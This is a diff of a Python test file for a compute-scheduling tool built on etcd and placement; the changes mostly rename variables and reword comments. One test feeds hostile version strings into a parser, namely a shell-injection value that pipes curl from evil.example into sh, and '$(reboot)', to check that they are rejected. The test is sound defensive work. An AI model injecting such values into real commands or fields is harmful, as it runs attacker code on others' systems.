@@ -1,4 +1,4 @@
-"""Computes as both planes describe them: names, state, whose record counts, what may be removed."""
+"""Computes as placement and etcd describe them: names, states, instances, leftovers."""
 
 from __future__ import annotations
 
@@ -43,7 +43,7 @@ from ecomp.model.status import BY_OPERATOR, DISABLED
 from ecomp.store.client import Entry
 from tests.kit.forms import text
 
-# A compute as both planes tell of it: its state, what lives there, and what may be removed with it.
+# A compute in both planes: its state, its living instances, and what may be removed with it.
 
 
 HOST, OTHER = (f'{digit * 8}-3a52-4b0f-8d87-0d8f1f2a6b01' for digit in 'ab')
@@ -78,7 +78,7 @@ def state(etcd: InEtcd, providers: dict[str, InPlacement]) -> str:
     return host.state
 
 
-# What eschedule hosts shows
+# Output of eschedule hosts
 
 
 @pytest.mark.parametrize(
@@ -101,7 +101,7 @@ def state(etcd: InEtcd, providers: dict[str, InPlacement]) -> str:
 )
 def test_state(etcd: InEtcd, providers: dict[str, InPlacement], wanted: str | None) -> None:
     if wanted is None:
-        assert {each.compute: each.state for each in hosts(etcd, providers)} == {HOST: 'orphaned', OTHER: 'silent'}
+        assert {host.compute: host.state for host in hosts(etcd, providers)} == {HOST: 'orphaned', OTHER: 'silent'}
     else:
         assert state(etcd, providers) == wanted
 
@@ -116,7 +116,7 @@ def test_state(etcd: InEtcd, providers: dict[str, InPlacement], wanted: str | No
 )
 def test_what_others_registered_is_no_compute_of_ours(foreign: dict[str, InPlacement]) -> None:
     assert hosts(InEtcd(), foreign) == []
-    # Unless etcd knows it: then it is shown with what placement says of it.
+    # If etcd knows it, it is shown with its data from placement.
     (shown,) = hosts(InEtcd(up({HOST: 'hv1'})), foreign)
     assert shown == Host(HOST, 'hv1', 'up', 0, foreign[HOST].shares, said=Living('hv1'))
 
@@ -129,12 +129,12 @@ def test_what_is_no_uuid_is_no_compute() -> None:
 def test_hosts_are_sorted_by_name_and_those_without_come_last() -> None:
     third = 'c' + OTHER[1:]
     shown = hosts(InEtcd(up({third: 'hv1', OTHER: 'hv2'})), provider())
-    assert [each.compute for each in shown] == [third, OTHER, HOST]
+    assert [host.compute for host in shown] == [third, OTHER, HOST]
 
 
 def test_a_host_that_is_away_is_shown_by_its_name() -> None:
-    known = Computes({OTHER: Living('hv2', '1.1.0', 'kvm', True)}, {HOST: 'hv1', 'c' + OTHER[1:]: 'hv3'})
-    away, here = hosts(InEtcd(known), provider(SHUT))
+    computes = Computes({OTHER: Living('hv2', '1.1.0', 'kvm', True)}, {HOST: 'hv1', 'c' + OTHER[1:]: 'hv3'})
+    away, here = hosts(InEtcd(computes), provider(SHUT))
     assert (away.compute, away.hostname, away.state, away.said) == (HOST, 'hv1', 'closed', Living())
     assert (here.hostname, here.said.version, here.said.kind) == ('hv2', '1.1.0', 'kvm')
 
@@ -144,8 +144,8 @@ def test_free_is_never_negative_and_what_is_too_much_is_said() -> None:
     assert (Room(2, 3).free, Room(2, 3).over) == (0, 1)
     assert (Room(0, 3, shut=True).free, Room(0, 3, shut=True).over) == (0, 0)
     shown = text(as_hosts([Host(HOST, None, 'up', 2, {'VCPU': Room(2, 3), 'PCPU': Room(8, 0)})]))
-    head, line = (each.split('  ') for each in shown.splitlines())
-    cells = dict(zip([each.strip() for each in head if each], [each.strip() for each in line if each], strict=True))
+    titles, values = (row.split('  ') for row in shown.splitlines())
+    cells = dict(zip([cell.strip() for cell in titles if cell], [cell.strip() for cell in values if cell], strict=True))
     assert cells == {
         'COMPUTE': HOST,
         'HOST': '-',
@@ -161,8 +161,8 @@ def test_free_is_never_negative_and_what_is_too_much_is_said() -> None:
 
 
 def test_json_says_the_same() -> None:
-    said = Living('hv1', '1.1.0', 'kvm', False)
-    shown = text(as_hosts([Host(HOST, 'hv1', 'closed', 1, {'VCPU': Room(0, 1, shut=True)}, said=said)]), 'json')
+    facts = Living('hv1', '1.1.0', 'kvm', False)
+    shown = text(as_hosts([Host(HOST, 'hv1', 'closed', 1, {'VCPU': Room(0, 1, shut=True)}, said=facts)]), 'json')
     assert json.loads(shown) == [
         {
             'compute': HOST,
@@ -179,7 +179,7 @@ def test_json_says_the_same() -> None:
     ]
 
 
-# What lives there
+# Instances of a compute
 
 
 def test_living() -> None:
@@ -188,7 +188,7 @@ def test_living() -> None:
         records={
             B: record(B, 'active'),  # its destroy was accepted
             D: record(D, 'active', OTHER),
-            E: record(E, 'stopped'),  # its request key was deleted by hand
+            E: record(E, 'stopped'),  # its request key was deleted outside ecomp
         },
     )
     assert living(HOST, etcd) == {A, C, E}
@@ -207,7 +207,7 @@ def test_a_request_its_compute_would_drop_does_not_live_there(known: Record) -> 
     assert leftovers(HOST, etcd, ()) == Leftovers(stray=(A,))
 
 
-# Whether it may be forgotten
+# Forgetting a compute
 
 
 @pytest.mark.parametrize(
@@ -263,7 +263,7 @@ def test_leftovers(etcd: InEtcd, held: tuple[str, ...], at_it: tuple[str, ...], 
         (True, {DISABLED, BY_OPERATOR}, ROOM, ('disabled', True), 'disabled'),
         (True, {DISABLED}, ROOM, ('disabled', True), 'disabled'),
         (True, set(), ROOM, ('up', False), 'up'),
-        (False, {DISABLED}, SHUT, ('closed', False), 'closed'),  # its ecompute said so when it stopped
+        (False, {DISABLED}, SHUT, ('closed', False), 'closed'),  # its ecompute set this when it stopped
         (False, {DISABLED, BY_OPERATOR}, SHUT, ('closed', True), 'closed, disabled'),
         (False, {DISABLED, BY_OPERATOR}, ROOM, ('orphaned', True), 'orphaned, disabled'),
     ],
@@ -272,9 +272,9 @@ def test_disabled(
     alive: bool, traits: set[str], shares: dict[str, Room], wanted: tuple[str, bool], shown: str
 ) -> None:
     etcd = InEtcd(up({HOST: 'hv1'} if alive else {}))
-    found = hosts(etcd, {HOST: InPlacement(HOST, HOST, shares, frozenset(traits))})
-    assert [(each.state, each.disabled) for each in found] == [wanted]
-    assert shown in [cell.strip() for cell in text(as_hosts(found)).splitlines()[1].split('  ')]
+    listed = hosts(etcd, {HOST: InPlacement(HOST, HOST, shares, frozenset(traits))})
+    assert [(host.state, host.disabled) for host in listed] == [wanted]
+    assert shown in [cell.strip() for cell in text(as_hosts(listed)).splitlines()[1].split('  ')]
 
 
 def test_what_is_still_there() -> None:
@@ -283,7 +283,7 @@ def test_what_is_still_there() -> None:
     assert there(HOST, etcd) == {A, B}
 
 
-# What is asked of many computes, told apart.
+# Changed requests, by compute.
 
 
 KEYS = st.tuples(st.sampled_from('abc'), st.sampled_from('uvw')).map(lambda each: keys.request(*each))
@@ -296,64 +296,64 @@ def state_of(revisions: dict[str, int]) -> dict[str, Entry]:
 
 @given(STATES, STATES)
 def test_who_is_told_is_told_all_and_nobody_is_forgotten(before: dict[str, int], after: dict[str, int]) -> None:
-    known = state_of(before)
-    of_each = changed_hosts({}, known, {})
-    kept = {compute: dict(each) for compute, each in of_each.items()}
-    told = changed_hosts(known, state_of(after), of_each)
-    assert of_each == kept, 'what was told before is never changed'
+    old_state = state_of(before)
+    of_each = changed_hosts({}, old_state, {})
+    copy = {compute: dict(entries) for compute, entries in of_each.items()}
+    changed = changed_hosts(old_state, state_of(after), of_each)
+    assert of_each == copy, 'what was told before is never changed'
     for compute in 'abc':
-        was, now = (
-            {key: each for key, each in revisions.items() if key.startswith(keys.request_prefix(compute))}
+        former, current = (
+            {key: revision for key, revision in revisions.items() if key.startswith(keys.request_prefix(compute))}
             for revisions in (before, after)
         )
-        assert (compute in told) == (was != now)
-        if compute in told:
-            assert told[compute] == state_of(now)
+        assert (compute in changed) == (former != current)
+        if compute in changed:
+            assert changed[compute] == state_of(current)
 
 
 def test_a_value_that_is_kept_by_now_is_told() -> None:
     key = keys.request('a', 'u')
-    long, kept = Entry(key, b'', 7, dropped=2000), Entry(key, b'{}', 7)
-    assert changed_hosts({key: long}, {key: kept}, {'a': {key: long}}) == {'a': {key: kept}}
-    assert changed_hosts({key: kept}, {key: Entry(key, b'{}', 7)}, {'a': {key: kept}}) == {}
+    long, short = Entry(key, b'', 7, dropped=2000), Entry(key, b'{}', 7)
+    assert changed_hosts({key: long}, {key: short}, {'a': {key: long}}) == {'a': {key: short}}
+    assert changed_hosts({key: short}, {key: Entry(key, b'{}', 7)}, {'a': {key: short}}) == {}
 
 
-# What computes are called: by their hosts' names, up or not, and by a uuid where that says more.
+# Names of computes: the host name, and the uuid where the name is not unique.
 
 
 HV1, HV2, HV3 = (f'{digit * 8}-3a52-4b0f-8d87-0d8f1f2a6b01' for digit in 'abc')
 
 
 def test_a_compute_is_called_by_its_hosts_name_also_while_it_is_away() -> None:
-    known = Computes({HV1: Living('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
-    assert [known.host(each) for each in (HV1, HV2, HV3)] == ['hv1', 'hv2', None]
-    assert [known.called(each) for each in (HV1, HV2, HV3)] == ['hv1', 'hv2', HV3]
-    assert (known.named('hv1'), known.named('hv2'), known.named('hv3')) == ([HV1], [HV2], [])
+    computes = Computes({HV1: Living('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
+    assert [computes.host(compute) for compute in (HV1, HV2, HV3)] == ['hv1', 'hv2', None]
+    assert [computes.called(compute) for compute in (HV1, HV2, HV3)] == ['hv1', 'hv2', HV3]
+    assert (computes.named('hv1'), computes.named('hv2'), computes.named('hv3')) == ([HV1], [HV2], [])
     assert NOBODY.called(HV1) == HV1
 
 
 def test_what_it_says_while_it_is_alive_comes_before_what_is_remembered() -> None:
-    known = Computes({HV1: Living('new'), HV2: Living()}, {HV1: 'old', HV2: 'hv2'})
-    assert (known.called(HV1), known.called(HV2), known.named('old')) == ('new', 'hv2', [])
+    computes = Computes({HV1: Living('new'), HV2: Living()}, {HV1: 'old', HV2: 'hv2'})
+    assert (computes.called(HV1), computes.called(HV2), computes.named('old')) == ('new', 'hv2', [])
 
 
 def test_of_two_with_one_name_the_uuid_is_said_also_where_one_alone_lives() -> None:
-    """A compute that was taken over could take what `--on` has for a host that is down, by calling itself so."""
-    both = Computes({HV1: Living('hv1'), HV2: Living('hv1')}, {HV3: 'hv1'})
-    assert (both.named('hv1'), both.called(HV1)) == ([HV1, HV2, HV3], f'hv1 ({HV1})')
-    taken = Computes({HV2: Living('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
-    assert taken.named('hv1') == [HV1, HV2]
-    assert (taken.called(HV2), taken.called(HV1)) == (f'hv1 ({HV2})', f'hv1 ({HV1})')
-    # A host that was set up anew has another uuid, and its name is its own once the old one is forgotten.
-    anew = Computes({HV2: Living('hv1')}, {HV2: 'hv1'})
-    assert (anew.named('hv1'), anew.called(HV2)) == ([HV2], 'hv1')
+    """A compromised compute must not get requests for a host that is down by using its name."""
+    shared = Computes({HV1: Living('hv1'), HV2: Living('hv1')}, {HV3: 'hv1'})
+    assert (shared.named('hv1'), shared.called(HV1)) == ([HV1, HV2, HV3], f'hv1 ({HV1})')
+    impersonated = Computes({HV2: Living('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
+    assert impersonated.named('hv1') == [HV1, HV2]
+    assert (impersonated.called(HV2), impersonated.called(HV1)) == (f'hv1 ({HV2})', f'hv1 ({HV1})')
+    # A host that was set up again has a new uuid. Its name is unique after the old compute is forgotten.
+    replaced = Computes({HV2: Living('hv1')}, {HV2: 'hv1'})
+    assert (replaced.named('hv1'), replaced.called(HV2)) == ([HV2], 'hv1')
 
 
 def test_a_text_is_told_with_names_and_a_path_is_left() -> None:
-    known = Computes({}, {HV1: 'hv1'})
-    assert known.translated(f'it is on compute {HV1}, {HV1}: and {HV2}') == f'it is on compute hv1, hv1: and {HV2}'
+    computes = Computes({}, {HV1: 'hv1'})
+    assert computes.translated(f'it is on compute {HV1}, {HV1}: and {HV2}') == f'it is on compute hv1, hv1: and {HV2}'
     for path in (f'/hosts/{HV1}/x', f'/instances/{HV1}', f'{HV1}/x', f'{HV1}-0', f'0{HV1}'):
-        assert known.translated(path) == path
+        assert computes.translated(path) == path
 
 
 @pytest.mark.parametrize(
@@ -371,32 +371,32 @@ def test_host_names(word: str) -> None:
 
 
 def test_what_a_living_compute_says_is_believed_as_far_as_it_makes_sense() -> None:
-    said = {'hostname': 'hv1', 'version': '1.1.0', 'kind': 'kvm', 'queues': True, 'token': 'x'}
-    assert living_in(json.dumps(said).encode()) == Living('hv1', '1.1.0', 'kvm', True)
+    facts = {'hostname': 'hv1', 'version': '1.1.0', 'kind': 'kvm', 'queues': True, 'token': 'x'}
+    assert living_in(json.dumps(facts).encode()) == Living('hv1', '1.1.0', 'kvm', True)
     assert living_in(b'{"hostname": "hv1", "version": "1.0.0"}') == Living('hv1', '1.0.0')
     for value in (b'', b'[]', b'{"hostname": 1, "version": [], "kind": "", "queues": "yes"}', b'\xff'):
         assert living_in(value) == Living()
     assert living_in(json.dumps({'version': 'v' * 10_000}).encode()) == Living(version='v' * 64)
     for version in ("9'; curl evil.example|sh; '", '9 9', '$(reboot)', '9\n'):
-        assert living_in(json.dumps({**said, 'version': version}).encode()) == Living('hv1', None, 'kvm', True)
+        assert living_in(json.dumps({**facts, 'version': version}).encode()) == Living('hv1', None, 'kvm', True)
 
 
 def test_that_nobody_takes_from_queues_is_said_where_it_is_known() -> None:
     assert 'no compute takes from queues: `queues: True`' in str(NOBODY.no_taker)
     assert 'no compute takes' in str(Computes({HV1: Living('hv1', queues=False)}).no_taker)
-    told = str(Computes({HV1: Living('hv1', queues=False), HV2: Living('hv2'), HV3: Living('hv3')}).no_taker)
-    assert 'of hv2 and 1 more, of an older version, it is not known' in told
+    message = str(Computes({HV1: Living('hv1', queues=False), HV2: Living('hv2'), HV3: Living('hv3')}).no_taker)
+    assert 'of hv2 and 1 more, of an older version, it is not known' in message
     assert Computes({HV1: Living('hv1', queues=False), HV2: Living('hv2')}).unserved(['web1']) is None
-    nobody = Computes({HV1: Living('hv1', queues=False)})
-    assert str(nobody.unserved(['web1'])).startswith('web1 waits in a queue, and no compute takes from queues: ')
-    assert str(nobody.unserved(['a', 'b', 'c'])).startswith('a and 2 more wait in a queue, and no compute')
-    assert nobody.unserved([]) is None
-    some = Computes({HV2: Living('hv2', queues=True), HV1: Living('hv1', queues=True), HV3: Living('hv3')})
-    assert (some.takers, some.no_taker) == ([HV1, HV2], None)
+    no_takers = Computes({HV1: Living('hv1', queues=False)})
+    assert str(no_takers.unserved(['web1'])).startswith('web1 waits in a queue, and no compute takes from queues: ')
+    assert str(no_takers.unserved(['a', 'b', 'c'])).startswith('a and 2 more wait in a queue, and no compute')
+    assert no_takers.unserved([]) is None
+    with_takers = Computes({HV2: Living('hv2', queues=True), HV1: Living('hv1', queues=True), HV3: Living('hv3')})
+    assert (with_takers.takers, with_takers.no_taker) == ([HV1, HV2], None)
 
 
 class Presence(NamedTuple):
-    """A presence key, as far as this is about it."""
+    """The parts of a presence key that these tests need."""
 
     revision: int
     lease: int
@@ -407,7 +407,7 @@ class Presence(NamedTuple):
 def test_a_presence_key_proves_life_only_if_it_was_written_since_or_every_lease_has_ended() -> None:
     providers = {HV1: HV1, HV2: HV2, HV3: HV3, 'd': 'a-shared-disk'}
     restored = {HV1: Presence(5, 1), HV2: Presence(9, 1), HV3: Presence(9, 0)}
-    restored = {f'/computes/{compute}': each for compute, each in restored.items()}
+    restored = {f'/computes/{compute}': presence for compute, presence in restored.items()}
     assert unproven(providers, restored, 5, has_lease_ended=False) == [HV1, HV3]
     assert unproven(providers, restored, 5, has_lease_ended=True) == [HV3]
     assert unproven(providers, {}, 5, has_lease_ended=True) == [HV1, HV2, HV3]
@@ -415,17 +415,18 @@ def test_a_presence_key_proves_life_only_if_it_was_written_since_or_every_lease_
 
 
 def test_a_cure_that_names_a_command_names_one_word_for_the_host() -> None:
-    """Of two hosts with one name a shell would refuse the parentheses."""
+    """A shell would refuse the parentheses of `name (uuid)`."""
     assert 'host forget hv2 --fenced' in silent_cure('hv2')
     uuid = 'c0000000-0000-4000-8000-000000000003'
     assert f'host forget {uuid} --fenced' in silent_cure(f'hv2 ({uuid})')
 
 
-# Which record of an instance is believed, where several keys speak of it.
+# The trusted record of an instance that has several keys.
 
 
 INSTANCE = 'd578fb7c-7787-4e73-b69a-a7b3ef9bf73a'
-ONE, TWO = 'b8756be5-a30d-4311-920c-0ad996367a8e', '5ca1ab1e-0000-4000-8000-000000000000'
+ONE = 'b8756be5-a30d-4311-920c-0ad996367a8e'
+TWO = '5ca1ab1e-0000-4000-8000-000000000000'
 
 
 @dataclass
@@ -446,7 +447,7 @@ def found(*pairs: tuple[str, Value]) -> Places[Value]:
 @pytest.mark.fast
 @pytest.mark.parametrize('rubbish', [b'', b'null', b'{"version": 2}', b'[' * 100])
 def test_what_cannot_be_read_at_the_older_place_hides_no_record(rubbish: bytes) -> None:
-    """Else an instance that has ended looks for ever as if it had not: its request, which would tell, is gone."""
+    """A finished instance, whose request is deleted, must not look unfinished forever."""
     ended = record_at(ONE, GONE, created=9)
     pairs = [(keys.old_record(INSTANCE), Value(rubbish, 1)), (keys.record(ONE, INSTANCE), ended)]
     assert found(*pairs).record is found(*reversed(pairs)).record is ended
@@ -458,9 +459,9 @@ def test_what_cannot_be_read_at_the_older_place_hides_no_record(rubbish: bytes) 
 def test_of_several_that_can_be_read_the_oldest_key_is_believed() -> None:
     first, later = record_at(ONE, ACTIVE, created=2), record_at(TWO, ACTIVE, created=5)
     assert found((keys.record(TWO, INSTANCE), later), (keys.record(ONE, INSTANCE), first)).compute == ONE
-    # What was taken out of its queue is gone, whatever a compute writes of it later.
-    nobody_s = record_at('', GONE, created=2)
-    assert found((keys.record(TWO, INSTANCE), later), (keys.record('', INSTANCE), nobody_s)).record is nobody_s
+    # An instance destroyed while queued stays gone, even if a compute writes a record later.
+    unassigned = record_at('', GONE, created=2)
+    assert found((keys.record(TWO, INSTANCE), later), (keys.record('', INSTANCE), unassigned)).record is unassigned
 
 
 @pytest.mark.fast
@@ -471,31 +472,31 @@ def test_who_is_asked_is_believed_before_who_has_a_record() -> None:
 
 @pytest.mark.fast
 def test_of_several_that_are_asked_the_one_that_holds_the_claim_is_believed() -> None:
-    """Whoever wants to be taken for it may write before it is delivered: its uuid is public by then."""
-    forged, right = Value(b'{}', 3), Value(b'{}', 7)
-    pairs = [(keys.request(ONE, INSTANCE), forged), (keys.request(TWO, INSTANCE), right)]
+    """A forged request may be older than the delivery, because the uuid is public by then."""
+    forged, genuine = Value(b'{}', 3), Value(b'{}', 7)
+    pairs = [(keys.request(ONE, INSTANCE), forged), (keys.request(TWO, INSTANCE), genuine)]
     pairs += [(keys.record(ONE, INSTANCE), record_at(ONE, GONE, 4))]
     pairs += [(keys.record(TWO, INSTANCE), record_at(TWO, ACTIVE, 8))]
-    for claims, compute, asked in (
+    for claims, compute, queried in (
         ({TWO: [INSTANCE]}, TWO, [ONE, TWO]),
         ({ONE: [INSTANCE]}, ONE, [ONE]),
         ({ONE: [INSTANCE], TWO: [INSTANCE]}, ONE, [ONE]),
         ({ONE: ['another']}, ONE, [ONE, TWO]),
     ):
-        at, told = found(*pairs), []
+        places, told = found(*pairs), []
 
         def claims_of(each: str, claims: dict[str, list[str]] = claims, told: list[str] = told) -> list[str]:
             told.append(each)
             return claims.get(each, [])
 
-        at.judge(INSTANCE, claims_of)
-        assert (at.compute, told) == (compute, asked)
-        assert at.record is dict(pairs)[keys.record(compute, INSTANCE)]
+        places.judge(INSTANCE, claims_of)
+        assert (places.compute, told) == (compute, queried)
+        assert places.record is dict(pairs)[keys.record(compute, INSTANCE)]
 
 
 @pytest.mark.fast
 def test_of_one_that_is_asked_nobody_asks_placement() -> None:
     pairs = [(keys.request(ONE, INSTANCE), Value(b'{}', 3)), (keys.record(TWO, INSTANCE), record_at(TWO, ACTIVE, 1))]
-    at = found(*pairs)
-    at.judge(INSTANCE, lambda _: pytest.fail('asked'))
-    assert at.compute == ONE
+    places = found(*pairs)
+    places.judge(INSTANCE, lambda _: pytest.fail('asked'))
+    assert places.compute == ONE
